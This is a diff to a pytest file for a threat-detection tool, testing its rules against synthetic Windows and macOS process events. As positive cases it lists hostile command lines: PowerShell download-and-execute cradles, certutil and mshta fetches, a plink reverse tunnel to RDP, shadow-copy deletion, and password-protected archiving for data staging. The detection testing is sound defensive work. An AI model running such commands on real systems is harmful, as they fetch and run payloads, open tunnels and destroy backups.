@@ -11,9 +11,11 @@ import pytest
 import yaml
 
 from detect_helpers import SYSMON, table_of
+from geobuk.detect.attribution import attribution_from_store
 from geobuk.detect.engine import Batch, match_rules
 from geobuk.detect.plan import Plan
 from geobuk.detect.rulesets import BUILTIN_RULES, load_ruleset, rule_files
+from geobuk.intel.importing import ensure_builtin_pack
 from geobuk.intel.pack import load_pack
 
 SYS32 = "C:\\Windows\\System32\\"
@@ -23,12 +25,20 @@ JUMPCLOUD = "C:\\Program Files\\JumpCloud\\jumpcloud-agent.exe"
 NODE = "C:\\Program Files\\nodejs\\node.exe"
 CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
 HOME = "C:\\Users\\dev"
+EXPLORER = "C:\\Windows\\explorer.exe"
+ATERA = "C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"
+MAC_JC = "/opt/jc/bin/jumpcloud-agent"
+APP_3CX = "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"
+CRD = "C:\\Program Files (x86)\\Google\\Chrome Remote Desktop\\CurrentVersion\\"
+SEVEN = "C:\\Program Files\\7-Zip\\7z.exe"
+GIT = "C:\\Program Files\\Git\\cmd\\git.exe"
+HH = "C:\\Windows\\hh.exe"
 LEVELS = {"informational", "low", "medium", "high", "critical"}
 REQUIRED = ("title", "id", "status", "description", "references", "author", "date", "tags", "actor",
             "logsource", "detection", "falsepositives", "level")
 
 
-def proc(image: str, command_line: str = "", parent: str = "C:\\Windows\\explorer.exe", **fields: str) -> dict:
+def proc(image: str, command_line: str = "", parent: str = EXPLORER, **fields: str) -> dict:
     """A Sysmon process creation."""
     return {"Channel": SYSMON, "EventID": "1", "Image": image, "CommandLine": command_line,
             "ParentImage": parent, **fields}
@@ -78,30 +88,28 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
          proc(SYS32 + "curl.exe", "curl -o C:\\ProgramData\\x.exe http://192.0.2.45/x", JUMPCLOUD),
          proc4688(SYS32 + "certutil.exe", "certutil -urlcache -f http://192.0.2.45/x x.exe", JUMPCLOUD)],
         [proc(PS, "powershell -NoProfile -Command \"Get-LocalUser | ConvertTo-Json\"", JUMPCLOUD),
+         proc(PS, "powershell -Command \"Remove-Item C:\\Temp\\old -Confirm $false\"", JUMPCLOUD),
          proc(SYS32 + "curl.exe", "curl -o x.exe http://192.0.2.45/x", CMD),
          proc4688(PS, "powershell -NoProfile -Command Get-Service", JUMPCLOUD)],
     ),
     # IT management agent spawns a script host
     "89a8d92d-be89-4f22-b736-cd00dc2ac8c0": (
-        [proc(SYS32 + "mshta.exe", "mshta http://192.0.2.45/a.hta", "C:\\Program Files\\ATERA Networks\\"
-              "AteraAgent\\AteraAgent.exe"),
+        [proc(SYS32 + "mshta.exe", "mshta http://192.0.2.45/a.hta", ATERA),
          proc(SYS32 + "rundll32.exe", "rundll32 C:\\ProgramData\\x.dll,Start", JUMPCLOUD)],
-        [proc(PS, "powershell -File inventory.ps1", "C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"),
+        [proc(PS, "powershell -File inventory.ps1", ATERA),
          proc(SYS32 + "mshta.exe", "mshta C:\\help\\about.hta")],
     ),
     # JumpCloud agent on macOS runs a staged script
     "27aeb598-be39-4be6-a3ae-f953990822ce": (
-        [mac_proc("/usr/bin/ruby", "ruby /var/folders/zz/T/init.rb", "/opt/jc/bin/jumpcloud-agent"),
-         mac_proc("/usr/bin/curl", "curl -sLo /tmp/x https://upd.example.com/x", "/opt/jc/bin/jumpcloud-agent")],
-        [mac_proc("/usr/bin/ruby", "ruby /opt/jc/scripts/inventory.rb", "/opt/jc/bin/jumpcloud-agent"),
+        [mac_proc("/usr/bin/ruby", "ruby /var/folders/zz/T/init.rb", MAC_JC),
+         mac_proc("/usr/bin/curl", "curl -sLo /tmp/x https://upd.example.com/x", MAC_JC)],
+        [mac_proc("/usr/bin/ruby", "ruby /opt/jc/scripts/inventory.rb", MAC_JC),
          mac_proc("/usr/bin/curl", "curl -sLo /tmp/x https://upd.example.com/x", "/bin/zsh")],
     ),
     # 3CX desktop app spawns a shell
     "fc374579-a4b1-47a9-991d-80a283e28524": (
-        [proc(CMD, "cmd.exe /c whoami /all", "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\"
-              "3CXDesktopApp.exe")],
-        [proc("C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe", "--type=renderer",
-              "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"),
+        [proc(CMD, "cmd.exe /c whoami /all", APP_3CX)],
+        [proc(APP_3CX, "--type=renderer", APP_3CX),
          proc(CMD, "cmd.exe /c whoami /all", "C:\\Program Files\\Microsoft Teams\\Teams.exe")],
     ),
     # remote desktop tool from a user folder
@@ -114,13 +122,11 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     # remote desktop tool configured for unattended access
     "e5a8b1c9-0bbd-4bea-bfcf-fb1e2df550c5": (
         [proc("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk.exe --set-password", CMD),
-         proc("C:\\Program Files (x86)\\Google\\Chrome Remote Desktop\\CurrentVersion\\remoting_start_host.exe",
-              "remoting_start_host.exe --code=\"4/0AbCd\" --redirect-url=\"https://remotedesktop.google.com/_/oauthredirect\""
-              " --name=%COMPUTERNAME%"),
+         proc(CRD + "remoting_start_host.exe", "remoting_start_host.exe --code=\"4/0AbCd\" --redirect-url="
+              "\"https://remotedesktop.google.com/_/oauthredirect\" --name=%COMPUTERNAME%"),
          proc(HOME + "\\rustdesk.exe", "rustdesk.exe --config 9JSPSlXZ", CMD)],
         [proc("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", "AnyDesk.exe --get-id", CMD),
-         proc("C:\\Program Files (x86)\\Google\\Chrome Remote Desktop\\CurrentVersion\\remoting_host.exe",
-              "remoting_host.exe --type=desktop")],
+         proc(CRD + "remoting_host.exe", "remoting_host.exe --type=desktop")],
     ),
     # Astrill VPN client
     "bcb7e0d9-f792-42fc-9dd1-2fccaf228425": (
@@ -152,12 +158,12 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     "4ba9a4f1-87b8-4f34-8250-557a6ad482ff": (
         [proc("C:\\ProgramData\\3proxy.exe", "3proxy.exe", CMD),
          proc("C:\\ProgramData\\svchost.exe", "svchost.exe C:\\ProgramData\\conf\\3proxy.cfg", CMD)],
-        [proc("C:\\ProgramData\\squid\\sbin\\squid.exe", "squid.exe -f C:\\ProgramData\\squid\\squid.conf", CMD)],
+        [proc("C:\\ProgramData\\squid\\sbin\\squid.exe", "squid.exe -f C:\\squid\\squid.conf", CMD)],
     ),
     # Plink tunnel
     "4a98e16c-29c5-4e04-bc62-cce10ead5b25": (
-        [proc("C:\\ProgramData\\plink.exe", "plink.exe -ssh -P 443 -l r -pw P4ss -R 0.0.0.0:8080:127.0.0.1:3389 "
-              "192.0.2.45", CMD),
+        [proc("C:\\ProgramData\\plink.exe",
+              "plink.exe -ssh -P 443 -l r -pw P4ss -R 0.0.0.0:8080:127.0.0.1:3389 192.0.2.45", CMD),
          proc("C:\\ProgramData\\pl.exe", "pl.exe -batch -L 9000:10.0.0.5:445 u@192.0.2.45", CMD,
               Description="Command-line SSH, Telnet, and Rlogin client")],
         [proc("C:\\Program Files\\PuTTY\\plink.exe", "plink.exe -ssh admin@build-01", CMD),
@@ -174,18 +180,20 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     ),
     # PowerShell download cradle
     "232b7475-a54f-4f0d-aa7c-181f5ad7f4a8": (
-        [proc(PS, "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", CMD),
-         proc(PS, "powershell Invoke-WebRequest http://x/a.exe -OutFile C:\\ProgramData\\a.exe", CMD)],
+        [proc(PS, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", CMD),
+         proc(PS, "powershell Invoke-WebRequest http://x/a.exe -OutFile C:\\ProgramData\\a.exe", CMD),
+         proc(PS, "powershell -c \"irm http://x/a.ps1 | iex\"", CMD)],
         [proc(PS, "powershell iex ((New-Object System.Net.WebClient).DownloadString("
               "'https://community.chocolatey.org/install.ps1'))", CMD),
-         proc(PS, "powershell Invoke-WebRequest https://x/tool.zip -OutFile .\\tool.zip", CMD)],
+         proc(PS, "powershell Invoke-WebRequest https://x/tool.zip -OutFile .\\tool.zip", CMD),
+         proc(PS, "powershell Get-ChildItem C:\\ProgramData\\Index | Remove-Item -Confirm $false", CMD)],
     ),
     # password-protected archive in a staging folder
     "9691b688-24a6-49d5-b765-cc675dcbbf38": (
-        [proc("C:\\ProgramData\\rar.exe", "rar.exe a -hpS3cret C:\\ProgramData\\t\\o.rar C:\\Users\\a\\Documents", CMD),
-         proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pX C:\\Windows\\Temp\\c.7z D:\\Finance", CMD)],
-        [proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\ProgramData\\logs.7z C:\\ProgramData\\app\\logs", CMD),
-         proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pX C:\\Users\\a\\Documents\\o.7z D:\\x", CMD)],
+        [proc("C:\\ProgramData\\rar.exe", "rar.exe a -hpS3cret C:\\ProgramData\\t\\o.rar D:\\Docs", CMD),
+         proc(SEVEN, "7z.exe a -pX C:\\Windows\\Temp\\c.7z D:\\Finance", CMD)],
+        [proc(SEVEN, "7z.exe a C:\\ProgramData\\logs.7z C:\\ProgramData\\app\\logs", CMD),
+         proc(SEVEN, "7z.exe a -pX C:\\Users\\a\\Documents\\o.7z D:\\x", CMD)],
     ),
     # InvisibleFerret run by BeaverTail's python
     "a03a0fa3-14fc-4672-90a9-65dfd1d6b24b": (
@@ -203,30 +211,30 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     ),
     # folder of source repositories archived
     "bfc40c44-587c-43cd-897b-be3cd4d5184e": (
-        [proc("C:\\Program Files\\7-Zip\\7z.exe", f"7z.exe a {HOME}\\Desktop\\all.7z {HOME}\\source\\repos\\*"),
+        [proc(SEVEN, f"7z.exe a {HOME}\\Desktop\\all.7z {HOME}\\source\\repos\\*"),
          proc(PS, f"powershell Compress-Archive -Path {HOME}\\GitHub\\* -DestinationPath D:\\code.zip")],
-        [proc("C:\\Program Files\\7-Zip\\7z.exe", f"7z.exe a {HOME}\\Documents\\photos.7z {HOME}\\Pictures"),
-         proc(PS, f"powershell Compress-Archive -Path {HOME}\\Documents\\cv -DestinationPath {HOME}\\cv.zip")],
+        [proc(SEVEN, f"7z.exe a {HOME}\\Documents\\photos.7z {HOME}\\Pictures"),
+         proc(PS, f"powershell Compress-Archive -Path {HOME}\\Documents\\cv -DestinationPath D:\\cv.zip")],
     ),
     # scripted clone of many repositories
     "2f0d8f60-28fa-4e1f-8f87-5b4f63081d19": (
         [proc(PS, "powershell \"gh repo list acme --limit 500 --json name -q '.[].name' | ForEach-Object "
               "{ gh repo clone acme/$_ }\""),
          proc(CMD, "cmd /c \"for /f %r in (repos.txt) do git clone https://git.acme.example/%r\"")],
-        [proc("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe clone https://github.com/acme/app.git"),
+        [proc(GIT, "git.exe clone https://github.com/acme/app.git"),
          proc(PS, "powershell \"gh repo list acme --limit 20\"")],
     ),
     # git repository exported whole
     "4d8cc3b0-7e86-463c-a4bb-cf35819869b3": (
-        [proc("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe clone --mirror https://github.com/acme/app.git"),
-         proc("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe bundle create all.bundle --all")],
-        [proc("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe clone https://github.com/acme/app.git"),
-         proc("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch --prune origin")],
+        [proc(GIT, "git.exe clone --mirror https://github.com/acme/app.git"),
+         proc(GIT, "git.exe bundle create all.bundle --all")],
+        [proc(GIT, "git.exe clone https://github.com/acme/app.git"),
+         proc(GIT, "git.exe fetch --prune origin")],
     ),
     # CHM spawns a shell
     "fd8074ba-cd4c-4977-8d5c-8fb889a14bee": (
-        [proc(PS, "powershell -w hidden -c \"Start-Process C:\\Users\\Public\\a.vbs\"", "C:\\Windows\\hh.exe")],
-        [proc("C:\\Windows\\hh.exe", "hh.exe C:\\docs\\manual.chm"),
+        [proc(PS, "powershell -w hidden -c \"Start-Process C:\\Users\\Public\\a.vbs\"", HH)],
+        [proc(HH, "hh.exe C:\\docs\\manual.chm"),
          proc(PS, "powershell -NoLogo")],
     ),
     # IP-KVM lookups
@@ -247,8 +255,8 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     ),
     # 3CX app resolves GitHub
     "8a775810-6679-4b66-ab82-8b5d89b01ae1": (
-        [dns("raw.githubusercontent.com", "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe")],
-        [dns("acme.3cx.us", "C:\\Users\\a\\AppData\\Local\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"),
+        [dns("raw.githubusercontent.com", APP_3CX)],
+        [dns("acme.3cx.us", APP_3CX),
          dns("github.com", "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe")],
     ),
     # Contagious Interview server ports
@@ -386,8 +394,8 @@ def test_process_rules_also_match_security_4688(ruleset):
 def test_windows_rules_need_their_channel(ruleset):
     # A matching command line in some other log (an application log quoting it) is not a detection.
     event = proc(SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD)
-    assert matches(ruleset, "ba659bc2-de47-4694-a4f0-37043b517693",
-                   [event, {**event, "Channel": "Application"}, {**event, "EventID": "11"}]) == [True, False, False]
+    events = [event, {**event, "Channel": "Application"}, {**event, "EventID": "11"}]
+    assert matches(ruleset, "ba659bc2-de47-4694-a4f0-37043b517693", events) == [True, False, False]
 
 
 def test_all_rules_together_on_a_mixed_batch(ruleset):
@@ -403,3 +411,11 @@ def test_all_rules_together_on_a_mixed_batch(ruleset):
     for row, rule_id in enumerate(expected):
         if rule_id is not None:
             assert row in set(hits.get(rule_id, ())), (rule_id, events[row])
+
+
+def test_findings_are_attributed_to_the_rule_actor(ruleset, documents, store):
+    # What a hunt shows: the rule's actor resolved through the intel store to that same actor.
+    ensure_builtin_pack(store)
+    attribution = attribution_from_store(store)
+    by_id = {d["id"]: d["actor"] for d in documents.values()}
+    assert {r.id: attribution.rule_actor(r) for r in ruleset.rules} == by_id
